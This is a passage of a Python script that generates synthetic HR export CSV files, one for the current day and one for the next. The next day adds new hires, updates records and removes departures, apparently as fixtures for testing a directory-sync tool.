    gone += pick(lambda p: active(p) and is_ic(p) and p["employee_type"] == "Employee", 1)
    gone += pick(lambda p: active(p) and tier.get(p["employee_id"]) == 3 and 2 <= len(reports.get(p["employee_id"], [])) <= 5, 1)
    gone += pick(lambda p: p["employment_status"] == "L" and is_ic(p), 1)
    for p in gone:
        log.append(("remove", p["employee_id"], "gone from the export (%s)" % p["employment_status"]))
    gone_ids = {p["employee_id"] for p in gone}
    for p in today:                      # nobody else may be touched because of a removal
        if p["manager_id"] in gone_ids:
            touched.add(p["employee_id"])

    def upd(p, what, **changes):
        for k, v in changes.items():
            assert p[k] != v, (p["employee_id"], k)
            p[k] = v
        log.append(("update", p["employee_id"], what))

    new_titles = ["Senior Software Engineer II", "Principal Engineer", "Lead Teacher - Grade 4",
                  "Director, Partnerships", "Staff Accountant", "Head of Data, EMEA", "Chief of Staff",
                  "Assistant Principal"]
    for p, t in zip(pick(lambda p: active(p) and is_ic(p) and p["employee_type"] == "Employee", 8), new_titles):
        upd(p, "title", title=t)
    for p in pick(lambda p: active(p) and is_ic(p) and p["department"] not in SCHOOL_DEPARTMENTS
                  and p["employee_type"] == "Employee", 5):
        dept = "Operations" if p["department"] != "Operations" else "Finance"
        upd(p, "department", department=dept)
    managers = [p for p in today if tier.get(p["employee_id"]) == 3 and p["employee_id"] not in gone_ids
                and p["employment_status"] == "A"]
    for p in pick(lambda p: active(p) and is_ic(p), 6):
        m = managers[rng.randrange(len(managers))]
        while m["employee_id"] == p["manager_id"]:
            m = managers[rng.randrange(len(managers))]
        upd(p, "manager", manager_id=m["employee_id"])
    us_school = lambda p: p["country"] == "US" and p["department"] in SCHOOL_DEPARTMENTS  # noqa: E731
    phones = pick(lambda p: active(p) and is_ic(p) and us_school(p) and p["phone"] != "", 1)   # OneRoster sees it
    phones += pick(lambda p: active(p) and is_ic(p) and p["country"] == "US" and p["phone"] != "", 2)
    for p in phones:
        upd(p, "phone (new number)", phone="(555) 019-%04d" % rng.randrange(10000))
    # Reformatted, same digits: a source update that normalised targets must not send.
    for p in pick(lambda p: active(p) and is_ic(p) and re.fullmatch(r"\(555\) 0\d\d-\d{4}", p["phone"]), 2):
        digits = re.sub(r"[^0-9]", "", p["phone"])
        upd(p, "phone (reformatted, same digits)", phone="%s.%s.%s" % (digits[:3], digits[3:6], digits[6:]))
    married = ["Fitzgerald", "Okafor", "Lindberg"]
    for k, p in enumerate(pick(lambda p: active(p) and is_ic(p) and ascii_name(p) and p["email"] == p["email"].strip().lower(), 3)):
        changes = {"family_name": married[k]}
        if k < 2:   # the mailbox follows the new name
            changes["email"] = "%s.%s@%s" % (mailbox(p.roman[0], "x").split(".")[0], married[k].lower(), DOMAIN)
        upd(p, "family name" + (" and email" if k < 2 else ""), **changes)
    for p, nick in zip(pick(lambda p: active(p) and is_ic(p) and ascii_name(p) and p["preferred_name"] == ""
                            and all(ord(c) < 128 for c in p["given_name"]), 2), ["Sunny", "Jax"]):
        upd(p, "preferred name", preferred_name=nick)
    for p in pick(lambda p: active(p) and is_ic(p) and p["employee_type"] == "Employee", 3):
        upd(p, "status A->T", employment_status="T", termination_date="11/30/2026")
    for p in pick(lambda p: active(p) and is_ic(p) and p["employee_type"] == "Employee", 1):
        upd(p, "status A->L", employment_status="L")
    for p in pick(lambda p: p["employment_status"] == "L" and is_ic(p), 1):
        upd(p, "status L->A", employment_status="A")
    for p in pick(lambda p: active(p) and is_ic(p) and p["location"] == "Boston", 1):
        upd(p, "location (moved site)", location="Chicago")
    for p in pick(lambda p: active(p) and is_ic(p) and p["location"] == "New York", 1):
        upd(p, "location (went remote)", location="Remote")
    for p in pick(lambda p: active(p) and is_ic(p) and p["email"] != p["email"].strip()
                  and p["email"].strip() == p["email"].strip().lower(), 1):
        upd(p, "email (surrounding spaces removed only)", email=p["email"].strip())
    for p in pick(lambda p: active(p) and is_ic(p) and p["notes"] == "", 1):
        upd(p, "notes", notes="Completed mandatory safeguarding training")
    for p in pick(lambda p: active(p) and is_ic(p) and p["employee_type"] == "Contractor"
                  and p["email"].endswith("@" + AGENCY_DOMAIN) and p["department"] not in SCHOOL_DEPARTMENTS, 1):
        upd(p, "contractor converted to employee", employee_type="Employee",
            email=p["email"].replace("@" + AGENCY_DOMAIN, "@" + DOMAIN))
    for p in pick(lambda p: active(p) and is_ic(p) and p["cost_center"].startswith("CC-"), 1):
        upd(p, "cost centre", cost_center="CC-1410" if p["cost_center"] != "CC-1410" else "CC-1411")

    # --- 20 new hires.
    cultures_pool = sorted(list(LATIN) + list(NONLATIN))
    hires = []
    used = {p["email"].strip().lower().split("@")[0] for p in today}
    next_e = max(int(p["employee_id"][1:]) for p in today if p["employee_id"].startswith("E")) + 1
    next_c = max(int(p["employee_id"][1:]) for p in today if p["employee_id"].startswith("C")) + 1
    plan = (["Employee"] * 15) + (["Contractor"] * 3) + (["Intern"] * 2)
    locs = ["New York", "Boston", "Chicago", "Austin", "London", "Berlin", "Tokyo", "São Paulo", "Remote",
            "Seattle", "Kyiv", "Bengaluru", "Paris", "Toronto", "Seoul", "Cairo", "New York", "Boston",
            "Madrid", "Shanghai"]
    depts = ["Teaching", "Teaching", "Student Support", "Engineering", "Sales", "Engineering", "Customer Support",
             "Marketing", "Engineering", "Teaching", "Finance", "Research & Development", "Human Resources",
             "IT", "Curriculum", "Operations", "School Leadership", "Facilities", "Legal", "Engineering"]
    for k in range(20):
        emp_type = plan[k]
        dept = depts[k]
        if emp_type == "Contractor" and dept == "School Leadership":
            dept = "Operations"
        p = make_person(rng, locs[k], dept, emp_type, cultures_pool)
        if emp_type == "Contractor":
            p["employee_id"] = "C%05d" % next_c
            next_c += 1
        else:
            p["employee_id"] = "E%05d" % next_e
            next_e += 1
        base = mailbox(*p.roman)
        local, n = base, 1
        while local in used:
            n += 1
            local = "%s%d" % (base, n)
        used.add(local)
        domain = AGENCY_DOMAIN if emp_type == "Contractor" and k % 2 == 0 else DOMAIN
        p["email"] = "%s@%s" % (local, domain)
        if k == 5:
            p["email"] = p["email"].upper()        # typed in capitals
        p["hire_date"] = fmt_date(datetime.date(2026, 11, 30) + datetime.timedelta(days=7 * (k % 3)))
        p["title"] = (rng.choice(IC_TITLES[dept]) if emp_type != "Intern" else "Intern, %s" % dept)
        ups = [m for m in managers if m["department"] == dept] or managers
        p["manager_id"] = ups[rng.randrange(len(ups))]["employee_id"]
        cc = "CC-%d" % (1000 + (sum(map(ord, dept)) * 7 + ord(p["location"][0])) % 900)
        p["cost_center"] = cc
        if k == 7:
            p["notes"] = "Start date moved twice;\nconfirm with recruiter"
        hires.append(p)
    hires[19]["manager_id"] = hires[3]["employee_id"]   # reports to another new hire
    hires[12]["preferred_name"] = "Dani"
    for p in hires:
        log.append(("add", p["employee_id"], "new hire (%s, %s)" % (p["employee_type"], p["department"])))

    rows = [p for p in today if p["employee_id"] not in gone_ids]
    for p in hires:
        rows.insert(rng.randrange(len(rows) + 1), p)
    return rows, log


def write_csv(path, rows):
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
        w.writerow(COLUMNS)
        for p in rows:
            w.writerow([p[c] for c in COLUMNS])


def read_csv(path):
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def source_diff(old_rows, new_rows, key="employee_id"):
    old = {r[key]: r for r in old_rows}
    new = {r[key]: r for r in new_rows}
    adds = sorted(k for k in new if k not in old)
    removes = sorted(k for k in old if k not in new)
    updates = sorted(k for k in new if k in old and new[k] != old[k])
    return adds, updates, removes


def main(argv):
    if "--check" in argv:
        return 1 if check_json5_files() else 0
    rng, people, tier = generate()
    rows_next, log = next_day(rng, people, tier)
    today_path = os.path.join(HERE, "hr_export.csv")
    next_path = os.path.join(HERE, "hr_export_next.csv")
    write_csv(today_path, people)
    write_csv(next_path, rows_next)

    old, new = read_csv(today_path), read_csv(next_path)
    ids = [r["employee_id"] for r in old]
    assert len(ids) == len(set(ids)) and all(ids), "employee_id must be unique and non-empty"
    adds, updates, removes = source_diff(old, new)
    print("hr_export.csv       %d rows" % len(old))
    print("hr_export_next.csv  %d rows" % len(new))
    print("source changes      adds %d, updates %d, removes %d, unchanged %d"
          % (len(adds), len(updates), len(removes), len(old) - len(updates) - len(removes)))
    assert (len(old), len(adds), len(updates), len(removes)) == (3000, 20, 40, 8), "change counts drifted"
    for rows in (old, new):
        mails = [r["email"].strip().lower() for r in rows if r["email"]]
        assert len(mails) == len(set(mails)), "mailboxes must be unique (case-insensitively)"
    if "--log" in argv:
        for kind, eid, what in log:
            print("  %-6s %s  %s" % (kind, eid, what))
    return 1 if check_json5_files() else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
